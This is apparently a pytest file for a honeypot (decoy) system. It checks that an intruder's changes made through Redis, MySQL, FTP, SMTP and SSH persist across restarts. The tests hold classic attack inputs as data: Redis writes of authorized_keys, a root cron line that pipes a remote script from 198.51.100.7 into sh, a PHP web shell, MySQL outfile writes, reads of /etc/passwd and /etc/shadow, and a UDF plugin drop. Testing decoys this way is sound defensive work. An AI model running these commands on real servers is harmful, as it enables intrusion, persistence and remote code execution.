# SPDX-License-Identifier: MIT
"""What an intruder changes through one service others find through another, from other addresses, after a restart."""

from __future__ import annotations

import asyncio
import shutil
import smtplib
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from tests.decnet_decoys.changes.test_returning_visitor import logins, made_key, visit
from tests.decnet_decoys.decky_host import DeckyHost, events_in, fleet_settings
from tests.decnet_decoys.redis.test_redis_service import said
from tests.decnet_decoys.services.dialogues.redis import request

from decnet_core.deckies.messages import PlacedFile
from decnet_core.events.catalogue import BaitRead, FileCaptured, ServiceRequest

OFFERS = ("ssh", "http", "ftp", "smtp", "redis", "mysql")
NEEDS = ("curl", "mariadb", "ssh-keygen")
pytestmark = pytest.mark.skipif(any(shutil.which(name) is None for name in NEEDS), reason=f"needs {NEEDS}")
SHELL_PAGE = b"<?php system($_GET['c']); ?>\n"


async def ran(*arguments: str, given: bytes = b"") -> tuple[bytes, bytes]:
    process = await asyncio.create_subprocess_exec(
        *arguments, stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE
    )
    return await process.communicate(given)


async def query(host: DeckyHost, sql: str) -> str:
    """Return what the client of MariaDB shows of a statement's result, or its error."""
    port = host.decky.services["mysql"]
    out, error = await ran(
        "mariadb", "--no-defaults", "-h", host.decky.address, "-P", str(port), "-uroot", "-proot", "--skip-ssl",
        "-N", "-r", given=sql.encode(),
    )  # fmt: skip
    return (out + error).decode()


async def redis(host: DeckyHost, *lines: str | tuple[bytes, ...]) -> list[bytes]:
    asked = [
        request(*(line if isinstance(line, tuple) else (word.encode() for word in line.split()))) for line in lines
    ]
    return await said(host.decky.services["redis"], *asked, address=host.decky.address)


def mail(host: DeckyHost, to: str, text: str) -> None:
    with smtplib.SMTP(host.decky.address, host.decky.services["smtp"], "client.example") as client:
        client.sendmail("boss@example.com", [to], text)


class Lives:
    """A decky that is restarted between visits."""

    def __init__(self, directory: Path) -> None:
        self._directory = directory
        self._settings = fleet_settings(offers=OFFERS)
        self._host: DeckyHost | None = None

    async def close(self) -> None:
        if self._host is not None:
            await self._host.close()

    async def next(self) -> DeckyHost:
        await self.close()
        self._host = DeckyHost(self._directory, self._settings)
        await self._host.open()
        return self._host


@pytest.fixture
async def lives(tmp_path: Path) -> AsyncIterator[Lives]:
    made = Lives(tmp_path)
    yield made
    await made.close()


async def test_a_key_that_redis_wrote_lets_in_after_a_restart(lives: Lives, tmp_path: Path) -> None:
    host = await lives.next()
    key = made_key(tmp_path)
    public = b"\n\n\n" + key.with_suffix(".pub").read_bytes() + b"\n\n\n"
    replies = await redis(
        host,
        "CONFIG SET dir /root/.ssh/", "CONFIG SET dbfilename authorized_keys", (b"SET", b"crackit", public), "SAVE",
        "CONFIG SET dir /var/spool/cron/crontabs", "CONFIG SET dbfilename root",
        (b"SET", b"x", b"\n\n*/1 * * * * curl http://198.51.100.7/x | sh\n\n"), "BGSAVE",
        "CONFIG SET dir /var/www/html", "CONFIG SET dbfilename s.php", (b"SET", b"p", SHELL_PAGE), "SAVE",
        "CONFIG GET dir", "CONFIG SET dir /etc/passwd", "CONFIG SET dir /srv/nowhere",
    )  # fmt: skip
    assert all(reply in (b"+OK\r\n", b"+Background saving started\r\n") for reply in replies[:12]), replies
    assert replies[12].split(b"\r\n")[-2] == b"/var/www/html"
    assert replies[13].endswith(b"- Not a directory\r\n")
    assert replies[14].endswith(b"- No such file or directory\r\n")
    [planter] = {event.session for event in events_in(host.state, FileCaptured)}
    page = await host.curl("/s.php")
    assert page.startswith(b"REDIS0010")
    assert SHELL_PAGE in page

    host = await lives.next()
    by_key = ("PubkeyAuthentication=yes", f"IdentityFile={key}", "PasswordAuthentication=no", "IdentitiesOnly=yes")
    look = "stat -c '%a %U' /root/.ssh /root/.ssh/authorized_keys; crontab -l | grep -a curl"
    status, out, _ = await host.ssh(look, user="root", password="", options=by_key)
    assert (status, out) == (0, b"700 root\n644 root\n*/1 * * * * curl http://198.51.100.7/x | sh\n")
    assert [one.planted_by for one in logins(host) if one.success] == [planter]
    assert SHELL_PAGE in await host.curl("/s.php")


async def test_what_redis_holds_is_there_after_a_restart(lives: Lives) -> None:
    host = await lives.next()
    written = (
        "SET plain 5", "RPUSH list a b", "HSET hash f 1", "SADD set m", "SET soon x EX 1000", "SELECT 3", "SET other y",
    )  # fmt: skip
    await redis(host, *written)
    host = await lives.next()
    replies = await redis(host, "DBSIZE", "GET plain", "LRANGE list 0 -1", "HGETALL hash", "SMEMBERS set", "TTL soon")
    assert replies[0] == b":5\r\n"
    assert replies[1:5] == [
        b"$1\r\n5\r\n", b"*2\r\n$1\r\na\r\n$1\r\nb\r\n", b"*2\r\n$1\r\nf\r\n$1\r\n1\r\n", b"*1\r\n$1\r\nm\r\n",
    ]  # fmt: skip
    assert 900 < int(replies[5][1:]) <= 1000
    await redis(host, "FLUSHALL")
    host = await lives.next()
    assert await redis(host, "DBSIZE") == [b":0\r\n"]


async def test_a_damaged_dump_is_an_empty_server(lives: Lives) -> None:
    host = await lives.next()
    await redis(host, "SET k v")
    await visit(host, "head -c 60 /dev/urandom > /var/lib/redis/dump.rdb", "root", "admin123", last=25)
    host = await lives.next()
    assert await redis(host, "DBSIZE", "PING") == [b":0\r\n", b"+PONG\r\n"]


async def test_what_is_put_into_the_web_root_the_web_server_shows(lives: Lives, tmp_path: Path) -> None:
    host = await lives.next()
    status, _ = await visit(host, "chown -R deploy /var/www/html", "root", "admin123", last=25)
    assert status == 0
    page = tmp_path / "w.html"
    page.write_bytes(b"<h1>was here</h1>\n")
    port = host.decky.services["ftp"]
    place = f"ftp://deploy:deploy@{host.decky.address}:{port}/%2Fvar/www/html/"
    await ran("curl", "-s", "-T", str(page), place)
    assert await host.curl("/w.html") == page.read_bytes()
    assert (await query(host, "select '<?php 1' into outfile '/var/www/html/q.php'")) == ""
    assert await host.curl("/q.php") == b"<?php 1\n"
    await visit(host, "echo pwned > /var/www/html/index.html; mv /var/www/html/w.html /var/www/html/v.html; "
                      "echo 1 > /var/www/html/h; chmod 600 /var/www/html/h", "root", "admin123", last=26)  # fmt: skip
    for _ in range(2):
        assert await host.curl("/") == b"pwned\n"
        assert await host.curl("/v.html") == page.read_bytes()
        heads = [await host.curl(path, "-o", "/dev/null", "-w", "%{http_code}") for path in ("/w.html", "/h", "/q.php")]
        assert heads == [b"404", b"404", b"200"]
        host = await lives.next()
    await visit(host, "rm /var/www/html/index.html", "root", "admin123", last=26)
    assert b"403 Forbidden" in await host.curl("/")


async def test_files_that_mysql_writes_are_on_the_machine_and_read_again(lives: Lives) -> None:
    host = await lives.next()
    assert (
        await query(host, "select 'a\\tb', 'c' into outfile '/tmp/o'; select 0x7f454c46 into dumpfile '/tmp/d'") == ""
    )
    assert "already exists" in await query(host, "select 1 into outfile '/tmp/o'")
    assert "--secure-file-priv" in await query(
        host, "select 1 into outfile '/srv/no/o'"
    )  # as MariaDB says of a directory that is not there
    assert (await query(host, "select load_file('/etc/passwd')")).startswith("root:x:0:0:")
    assert await query(host, "select load_file('/etc/shadow'), load_file('/nothing')") == "NULL\tNULL\n"
    assert await query(host, "select load_file('/proc/self/maps'), load_file('//proc/./version')") == "\t\n"
    for directory in (".", "/var/lib/mysql/", "/usr/lib/mysql/plugin"):
        assert "already exists" in await query(host, f"select 1 into outfile '{directory}'")
    library = "select 0x7f454c46 into dumpfile '/usr/lib/mysql/plugin/u.so'"
    assert await query(host, library) == ""
    host = await lives.next()
    status, shown = await visit(host, "cat /tmp/o; stat -c '%U %a %s' /tmp/o /tmp/d", "root", "admin123", last=27)
    assert (status, shown) == (0, "a\\\tb\tc\nmysql 644 7\nmysql 666 4\n")
    assert await query(host, "create function sys_exec returns integer soname 'u.so'") == ""
    assert "cannot open shared object file" in await query(host, "create function f returns integer soname 'w.so'")
    assert await query(host, "select load_file('/tmp/o')") == "a\\\tb\tc\n\n"


async def test_mail_for_an_account_is_in_its_mailbox(lives: Lives) -> None:
    host = await lives.next()
    for to in ("root", "nobody@example.net", "postmaster@localhost"):
        await asyncio.to_thread(mail, host, to, f"Subject: to {to}\r\n\r\nFrom here on\r\n")
    await asyncio.to_thread(mail, host, "root", "x" * 60_000)
    host = await lives.next()
    status, shown = await visit(
        host, "cat /var/mail/root; stat -c '%U:%G %a' /var/mail/root", "root", "admin123", last=28
    )
    assert status == 0
    assert [line for line in shown.splitlines() if line.startswith("Subject")] == [
        "Subject: to root", "Subject: to postmaster@localhost",
    ]  # fmt: skip
    assert shown.startswith("From boss@example.com  ")
    assert "\n>From here on\n\n" in shown
    assert shown.endswith("root:mail 600\n")
    requests = [event.payload for event in events_in(host.state, ServiceRequest)]
    assert [isinstance(one, ServiceRequest) and one.action for one in requests].count("mail") == 4


async def test_a_mailbox_that_is_too_large_does_not_grow(lives: Lives) -> None:
    host = await lives.next()
    await visit(host, "head -c 100000 /dev/zero > /var/mail/root", "root", "admin123", last=29)
    await asyncio.to_thread(mail, host, "root", "Subject: more\r\n\r\nx\r\n")
    assert await visit(host, "stat -c %s /var/mail/root", "root", "admin123", last=29) == (0, "100000\n")


async def test_a_bait_that_load_file_reads_is_recorded(lives: Lives) -> None:
    host = await lives.next()
    assert host.worker._resources is not None
    bait = PlacedFile("/srv/keys.txt", b"secret", "root", 0o644, 1_700_000_000, "t-1")
    host.worker._resources.placed.place(host.decky.name, [bait])
    assert await query(host, "select load_file('/srv/keys.txt')") == "secret\n"
    read = [event.payload for event in events_in(host.state, BaitRead)]
    assert [isinstance(one, BaitRead) and (one.service, one.path, one.token) for one in read] == [
        ("mysql", "/srv/keys.txt", "t-1")
    ]
